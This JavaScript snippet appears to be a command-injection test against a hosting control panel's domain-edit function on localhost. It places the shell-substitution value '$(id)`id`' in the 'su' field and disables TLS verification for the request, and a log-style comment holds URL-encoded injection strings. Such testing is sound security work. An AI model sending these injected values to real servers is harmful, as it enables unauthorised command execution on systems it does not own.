// Jun 25 09:07:51 a%3Btouch%20x%20 as %24%28id%29%60id%60, domain.edit, changes data
{
    for (const name of ["MGR_AUTHINFO"]) {
        if (process.env[name] === undefined) throw new Error(`${name} is not set`);
    }
    const form = new URLSearchParams([
        ["authinfo", process.env.MGR_AUTHINFO],
        ["func", "domain.edit"],
        ["clicked_button", "ok"],
        ["elid", "shop.example"],
        ["sok", "ok"],
        ["su", "$(id)`id`"],
        ["out", "json"],
    ]);
    process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
    const response = await fetch("https://localhost:1500/ispmgr", { method: "POST", body: form }).finally(() => {
        delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    });
    if (!response.ok) throw new Error(`${response.status} ${response.statusText}`);
    const answer = await response.text();
    if (JSON.parse(answer).doc?.error) throw new Error(answer);
    console.log(answer);
}
